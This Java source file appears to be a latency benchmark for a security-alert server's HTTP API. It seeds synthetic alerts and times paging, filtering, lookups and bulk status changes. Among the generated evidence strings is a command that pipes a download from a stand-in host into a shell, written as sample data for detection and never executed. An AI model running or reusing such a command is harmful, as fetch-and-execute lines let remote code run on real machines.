package dev.vigil.bench;

import dev.vigil.alert.Alert;
import dev.vigil.alert.AlertStatus;
import dev.vigil.alert.Evidence;
import dev.vigil.alert.suppress.Suppressor;
import dev.vigil.catalogue.AlertCatalogue;
import dev.vigil.catalogue.AlertType;
import dev.vigil.catalogue.Severity;
import dev.vigil.server.ServerConfig;
import dev.vigil.server.VigilServer;
import dev.vigil.server.auth.Role;
import dev.vigil.server.auth.TokenRepository;
import dev.vigil.server.auth.UserRepository;
import dev.vigil.store.AlertQuery;
import dev.vigil.store.AlertStore;
import dev.vigil.store.AlertStores;
import dev.vigil.store.JdbcAlertStore;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.function.Function;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * {@code vigil serve} over a large store: fills a store with synthetic alerts (once; a later run
 * reuses it), then, five times over, starts the server on loopback and times API requests one
 * after another through HTTP, and prints per request kind the median over the runs of each run's
 * p50 and p95 (and the highest p95, to show the spread). Kinds: an alert page for each filter, the
 * next page by cursor and the tenth, one alert with its evidence, the overview, and a bulk status
 * change of 100 alerts.
 *
 * <p>The alerts are generated, not taken from any corpus: types, client IPs, hosts and URLs drawn
 * from Zipf distributions (a few addresses and types make most alerts, as on a real edge), times
 * over 30 days denser towards the end, 10% runtime alerts without a client IP, 0.5% without any
 * time, one to four evidence lines each, and 5% each InProgress, Resolved and Dismissed.
 *
 * <p>Run: {@code java -Xmx2g -cp vigil-bench/target/benchmarks.jar dev.vigil.bench.ServeBenchmark
 * DB ALERTS [runs] [requests] [--explain]}, DB an SQLite file, a {@code postgresql://} URL, or
 * {@code pg:FOLDER} for a PostgreSQL this benchmark keeps in FOLDER (see {@link BenchPostgres}).
 * {@code --explain} also prints the plan of each page query.
 */
public final class ServeBenchmark {
    private ServeBenchmark() {}

    static final long END = 1_760_000_000_000L;
    static final long SPAN = 30L * 86_400_000L;

    public static void main(String[] args) throws Exception {
        List<String> a = new ArrayList<>(Arrays.asList(args));
        boolean explain = a.remove("--explain");
        String db = a.size() > 0 ? a.get(0) : "/tmp/vigil-serve-bench.db";
        int n = a.size() > 1 ? Integer.parseInt(a.get(1)) : 1_000_000;
        int runs = a.size() > 2 ? Integer.parseInt(a.get(2)) : 5;
        int requests = a.size() > 3 ? Integer.parseInt(a.get(3)) : 40;
        BenchPostgres pg = null;
        if (db.startsWith("pg:")) {
            pg = BenchPostgres.start(Path.of(db.substring(3)));
            db = pg.url("vigil_bench_" + n);
        }
        try {
            run(db, n, runs, requests, explain);
        } finally {
            if (pg != null) {
                pg.close();
            }
        }
    }

    private static void run(String db, int n, int runs, int requests, boolean explain) throws Exception {
        Generator gen = new Generator(n);
        seed(db, gen);
        try (AlertStore s = AlertStores.open(db)) {
            // the bulk changes' alerts start Active, whatever an interrupted run left
            List<String> kept = new ArrayList<>();
            for (int i = 42; i < n; i += 100) {
                kept.add(gen.id(i));
            }
            s.setStatuses(kept, AlertStatus.ACTIVE, "bench", "reset"); // those Active already fail, harmlessly
        }
        String viewer;
        String analyst;
        try (TokenRepository tokens = TokenRepository.open(db)) { // kept in the benchmarked database
            viewer = tokens.create("bench-viewer-" + System.nanoTime(), Role.VIEWER).secret();
            analyst = tokens.create("bench-analyst-" + System.nanoTime(), Role.ANALYST).secret();
        }
        Map<String, Function<SplittableRandom, String>> pages = pageKinds(gen);
        if (explain) {
            try (JdbcAlertStore s = AlertStores.open(db)) {
                explain(s, gen);
            }
        }
        Map<String, List<double[]>> results = new LinkedHashMap<>();
        for (int run = 0; run < runs; run++) {
            SplittableRandom rnd = new SplittableRandom(100 + run);
            JdbcAlertStore store = AlertStores.open(db);
            try (VigilServer server = new VigilServer(ServerConfig.loopback(0), store, TokenRepository.on(store),
                    UserRepository.on(store)).start()) {
                Http http = new Http("http://127.0.0.1:" + server.port(), viewer, analyst);
                for (int w = 0; w < 10; w++) { // warm up the JIT and the caches on every kind
                    for (Function<SplittableRandom, String> k : pages.values()) {
                        http.get(k.apply(rnd));
                    }
                    http.get("/api/overview");
                }
                for (Map.Entry<String, Function<SplittableRandom, String>> k : pages.entrySet()) {
                    results.computeIfAbsent(k.getKey(), x -> new ArrayList<>())
                            .add(time(requests, () -> http.get(k.getValue().apply(rnd))));
                }
                String first = "/api/alerts?status=Active,InProgress&minSeverity=Medium&limit=50";
                results.computeIfAbsent("next page by cursor (page 2)", x -> new ArrayList<>()).add(time(requests, () -> {
                    String c = cursor(http.get(first));
                    http.timed = true;
                    http.get(first + "&cursor=" + c);
                }));
                results.computeIfAbsent("page 10 by cursor", x -> new ArrayList<>()).add(time(Math.max(3, requests / 4), () -> {
                    String c = cursor(http.get(first));
                    for (int p = 2; p < 10; p++) {
                        c = cursor(http.get(first + "&cursor=" + c));
                    }
                    http.timed = true;
                    http.get(first + "&cursor=" + c);
                }));
                results.computeIfAbsent("one alert with evidence", x -> new ArrayList<>())
                        .add(time(requests, () -> http.get("/api/alerts/" + gen.id(gen.pick(rnd)))));
                results.computeIfAbsent("overview", x -> new ArrayList<>()).add(time(requests, () -> http.get("/api/overview")));
                int[] bulk = {0};
                results.computeIfAbsent("bulk status change of 100", x -> new ArrayList<>()).add(time(requests + requests % 2, () -> {
                    // pairs of requests on the same 100 kept-Active alerts: to InProgress and back,
                    // so every change is allowed and the store ends as it began
                    int b = bulk[0]++;
                    java.util.Set<String> picked = new java.util.LinkedHashSet<>();
                    SplittableRandom pick = new SplittableRandom(7_000 + b / 2);
                    while (picked.size() < Math.min(100, n / 100)) {
                        picked.add(gen.id(gen.keptActive(pick)));
                    }
                    List<String> ids = List.copyOf(picked);
                    String body = "{\"status\":\"" + (b % 2 == 0 ? "InProgress" : "Active") + "\",\"comment\":\"bench\",\"ids\":["
                            + String.join(",", ids.stream().map(id -> "\"" + id + "\"").toList()) + "]}";
                    String r = http.post("/api/alerts/status", body);
                    if (!r.contains("\"failed\":0")) {
                        throw new IllegalStateException("a bulk change failed: " + r.substring(0, Math.min(300, r.length())));
                    }
                }));
            }
        }
        System.out.printf(Locale.ROOT, "%n%s, %,d alerts: medians of %d runs, %d requests per kind and run, one at a time%n",
                AlertStores.describe(db), n, runs, requests);
        System.out.printf(Locale.ROOT, "%-52s %9s %9s %12s%n", "request", "p50 ms", "p95 ms", "max p95 ms");
        for (Map.Entry<String, List<double[]>> e : results.entrySet()) {
            double[] p50 = e.getValue().stream().mapToDouble(r -> r[0]).sorted().toArray();
            double[] p95 = e.getValue().stream().mapToDouble(r -> r[1]).sorted().toArray();
            System.out.printf(Locale.ROOT, "%-52s %9.1f %9.1f %12.1f%n", e.getKey(), p50[p50.length / 2],
                    p95[p95.length / 2], p95[p95.length - 1]);
        }
    }

    /** The filtered pages: each request draws its values (a type, an address, a host) anew. */
    static Map<String, Function<SplittableRandom, String>> pageKinds(Generator gen) {
        Map<String, Function<SplittableRandom, String>> k = new LinkedHashMap<>();
        k.put("page: status Active,InProgress + minSeverity Medium", r -> "/api/alerts?status=Active,InProgress&minSeverity=Medium&limit=50");
        k.put("page: no filter", r -> "/api/alerts?limit=50");
        k.put("page: one status (Resolved, 5%)", r -> "/api/alerts?status=Resolved&limit=50");
        k.put("page: exact severity High", r -> "/api/alerts?severity=High&limit=50");
        k.put("page: type", r -> "/api/alerts?type=" + gen.types.get(gen.typeIndex(r)).name() + "&limit=50");
        k.put("page: client IP", r -> "/api/alerts?ip=" + gen.ip(gen.ipIndex(r)) + "&limit=50");
        k.put("page: host (resource)", r -> "/api/alerts?host=" + gen.host(gen.hostIndex(r)) + "&limit=50");
        k.put("page: time range (one day, 3 days ago)", r -> "/api/alerts?since=" + (END - 3 * 86_400_000L) + "&until="
                + (END - 2 * 86_400_000L) + "&limit=50");
        k.put("page: open + type + time range", r -> "/api/alerts?status=Active,InProgress&type="
                + gen.types.get(gen.typeIndex(r)).name() + "&since=" + (END - 7 * 86_400_000L) + "&limit=50");
        k.put("page: free text (scan of 10,000)", r -> "/api/alerts?q=" + URLEncoder.encode("/p/" + r.nextInt(50) + "?",
                StandardCharsets.UTF_8) + "&limit=50");
        return k;
    }

    private static void explain(JdbcAlertStore s, Generator gen) {
        SplittableRandom r = new SplittableRandom(1);
        Map<String, AlertQuery> qs = new LinkedHashMap<>();
        AlertQuery base = new AlertQuery(null, null, null, null, null, 50);
        qs.put("status + minSeverity", new AlertQuery(java.util.EnumSet.of(AlertStatus.ACTIVE, AlertStatus.IN_PROGRESS),
                Severity.MEDIUM, null, null, null, 50));
        qs.put("no filter", base);
        qs.put("type", new AlertQuery(null, null, gen.types.get(0).name(), null, null, 50));
        qs.put("client IP", base.exactly(null, gen.ip(gen.ipIndex(r)), null));
        qs.put("host", base.exactly(null, null, gen.host(3)));
        qs.put("time range", new AlertQuery(null, null, null, END - 3 * 86_400_000L, END - 2 * 86_400_000L, null, 50, null));
        for (Map.Entry<String, AlertQuery> e : qs.entrySet()) {
            System.out.println("-- plan: " + e.getKey());
            s.explain(e.getValue()).forEach(l -> System.out.println("   " + l));
        }
    }

    /** p50 and p95 of {@code n} calls of {@code body}, in ms; a body may time only its last request. */
    private static double[] time(int n, Body body) throws Exception {
        double[] ms = new double[n];
        for (int i = 0; i < n; i++) {
            Http.last = 0;
            Http.timedOnly = false;
            long t0 = System.nanoTime();
            body.run();
            ms[i] = Http.timedOnly ? Http.last / 1e6 : (System.nanoTime() - t0) / 1e6;
        }
        Arrays.sort(ms);
        return new double[] {ms[n / 2], ms[Math.min(n - 1, (int) Math.ceil(n * 0.95) - 1)]};
    }

    @FunctionalInterface
    interface Body {
        void run() throws Exception;
    }

    private static final Pattern NEXT = Pattern.compile("\"nextCursor\":\"([^\"]+)\"");

    private static String cursor(String body) {
        Matcher m = NEXT.matcher(body);
        if (!m.find()) {
            throw new IllegalStateException("no next page");
        }
        return m.group(1);
    }

    /** One client, one request at a time; {@link #timed} marks the request whose time alone counts. */
    static final class Http {
        static long last;
        static boolean timedOnly;
        private final HttpClient client = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();
        private final String base;
        private final String viewer;
        private final String analyst;
        boolean timed;

        Http(String base, String viewer, String analyst) {
            this.base = base;
            this.viewer = viewer;
            this.analyst = analyst;
        }

        String get(String path) throws Exception {
            return send(HttpRequest.newBuilder(URI.create(base + path)).header("Authorization", "Bearer " + viewer)
                    .timeout(Duration.ofSeconds(60)).build());
        }

        String post(String path, String json) throws Exception {
            return send(HttpRequest.newBuilder(URI.create(base + path)).header("Authorization", "Bearer " + analyst)
                    .header("Content-Type", "application/json").timeout(Duration.ofSeconds(60))
                    .POST(HttpRequest.BodyPublishers.ofString(json)).build());
        }

        private String send(HttpRequest req) throws Exception {
            boolean mark = timed;
            timed = false;
            long t0 = System.nanoTime();
            HttpResponse<String> r = client.send(req, HttpResponse.BodyHandlers.ofString());
            if (mark) {
                last = System.nanoTime() - t0;
                timedOnly = true;
            }
            if (r.statusCode() != 200) {
                throw new IllegalStateException(req.uri() + " answered " + r.statusCode() + ": " + r.body());
            }
            return r.body();
        }
    }

    /** Fills an empty store; a store that holds alerts is reused as it is. */
    static void seed(String db, Generator gen) {
        try (AlertStore s = AlertStores.open(db)) {
            if (!s.list(new AlertQuery(null, null, null, null, null, 1)).isEmpty()) {
                System.out.printf(Locale.ROOT, "%s holds alerts already; reusing it%n", AlertStores.describe(db));
                return;
            }
            long t0 = System.nanoTime();
            List<Alert> batch = new ArrayList<>(10_000);
            for (int i = 0; i < gen.n; i++) {
                batch.add(gen.alert(i));
                if (batch.size() == 10_000) {
                    s.upsert(batch, Suppressor.none(), "bench");
                    batch.clear();
                }
            }
            if (!batch.isEmpty()) {
                s.upsert(batch, Suppressor.none(), "bench");
            }
            long stored = System.nanoTime();
            // triage: 5% each InProgress, Resolved, Dismissed, in bulk changes of 500
            Map<AlertStatus, List<String>> to = new LinkedHashMap<>();
            for (int i = 0; i < gen.n; i++) {
                AlertStatus st = gen.status(i);
                if (st != AlertStatus.ACTIVE) {
                    to.computeIfAbsent(st, x -> new ArrayList<>()).add(gen.id(i));
                }
            }
            to.forEach((st, ids) -> {
                for (int from = 0; from < ids.size(); from += 500) {
                    s.setStatuses(ids.subList(from, Math.min(ids.size(), from + 500)), st, "bench", "seeded");
                }
            });
            System.out.printf(Locale.ROOT, "stored %,d alerts in %.1f s, triaged %,d in %.1f s%n", gen.n,
                    (stored - t0) / 1e9, to.values().stream().mapToInt(List::size).sum(), (System.nanoTime() - stored) / 1e9);
        }
    }

    /** Synthetic alerts, the same for the same count; none from any corpus. */
    static final class Generator {
        final int n;
        final List<AlertType> types;
        private final double[] typeCdf;
        private final double[] ipCdf;
        private final double[] hostCdf;
        private final double[] urlCdf;

        Generator(int n) {
            this.n = n;
            List<AlertType> t = new ArrayList<>(AlertCatalogue.builtIn().all());
            t.removeIf(AlertType::test);
            java.util.Collections.shuffle(t, new java.util.Random(3));
            this.types = List.copyOf(t);
            typeCdf = zipf(types.size(), 1.0);
            ipCdf = zipf(Math.max(100, n / 20), 1.1);
            hostCdf = zipf(200, 0.8);
            urlCdf = zipf(5_000, 1.0);
        }

        private static double[] zipf(int k, double s) {
            double[] cdf = new double[k];
            double sum = 0;
            for (int i = 0; i < k; i++) {
                sum += 1 / Math.pow(i + 1, s);
                cdf[i] = sum;
            }
            for (int i = 0; i < k; i++) {
                cdf[i] /= sum;
            }
            return cdf;
        }

        private static int draw(double[] cdf, SplittableRandom r) {
            int i = Arrays.binarySearch(cdf, r.nextDouble());
            return Math.min(cdf.length - 1, i < 0 ? -i - 1 : i);
        }

        int typeIndex(SplittableRandom r) {
            return draw(typeCdf, r);
        }

        int ipIndex(SplittableRandom r) {
            return draw(ipCdf, r);
        }

        int hostIndex(SplittableRandom r) {
            return draw(hostCdf, r);
        }

        /** Documentation ranges (RFC 5737) and beyond, spread by index. */
        String ip(int i) {
            return (i % 3 == 0 ? "203.0." : i % 3 == 1 ? "198.51." : "192.0.") + (i / 3 / 250 % 250) + "." + (i / 3 % 250);
        }

        String host(int i) {
            return (i % 4 == 0 ? "api" : i % 4 == 1 ? "shop" : i % 4 == 2 ? "web" : "node") + i + ".example.internal";
        }

        /** A 64-hex-digit id, as the store's ids are. */
        String id(int i) {
            long x = i * 0x9E3779B97F4A7C15L + 0x632BE59BD9B4E019L;
            StringBuilder b = new StringBuilder(64);
            for (int w = 0; w < 4; w++) {
                x ^= x >>> 31;
                x *= 0xBF58476D1CE4E5B9L;
                x ^= x >>> 27;
                b.append(String.format("%016x", x));
            }
            return b.toString();
        }

        int pick(SplittableRandom r) {
            return r.nextInt(n);
        }

        /** An alert the seeding left Active (index = 42 mod 100), for the bulk changes. */
        int keptActive(SplittableRandom r) {
            return r.nextInt(Math.max(1, n / 100)) * 100 + 42;
        }

        AlertStatus status(int i) {
            if (i % 100 == 42) {
                return AlertStatus.ACTIVE;
            }
            int h = Math.floorMod((int) (i * 2654435761L >>> 7), 100);
            return h < 5 ? AlertStatus.IN_PROGRESS : h < 10 ? AlertStatus.RESOLVED : h < 15 ? AlertStatus.DISMISSED
                    : AlertStatus.ACTIVE;
        }

        Alert alert(int i) {
            SplittableRandom r = new SplittableRandom(i * 31L + 17);
            AlertType t = types.get(typeIndex(r));
            Severity sev = r.nextInt(10) == 0 ? Severity.values()[r.nextInt(4)] : t.severity();
            boolean runtime = r.nextInt(10) == 0;
            Map<String, String> e = new LinkedHashMap<>();
            String url = "/p/" + draw(urlCdf, r) + "?id=" + r.nextInt(1000);
            if (!runtime) {
                e.put("ip", ip(ipIndex(r)));
                e.put("url", url);
            }
            e.put("host", host(hostIndex(r)));
            long last;
            long first;
            if (r.nextInt(200) == 0) {
                last = dev.vigil.event.Event.NO_TIME;
                first = last;
            } else {
                last = END - (long) (SPAN * Math.pow(r.nextDouble(), 1.5));
                first = last - r.nextLong(3_600_000);
            }
            int lines = 1 + r.nextInt(4);
            List<Evidence> ev = new ArrayList<>(lines);
            for (int l = 0; l < lines; l++) {
                String v = runtime ? "sh -c 'curl -s http://example.invalid/" + r.nextInt(1000) + " | sh'"
                        : url + "&q=" + "x".repeat(r.nextInt(80));
                ev.add(new Evidence("bench-" + (i % 7) + ".log", (long) i * 4 + l, last == dev.vigil.event.Event.NO_TIME
                        ? last : last - l * 1000L, "bench.rule", runtime ? "command_line" : "param_values", v, v));
            }
            return new Alert(id(i), t, sev, e, first, last, lines + r.nextInt(50), List.of("bench.rule"), ev);
        }
    }
}
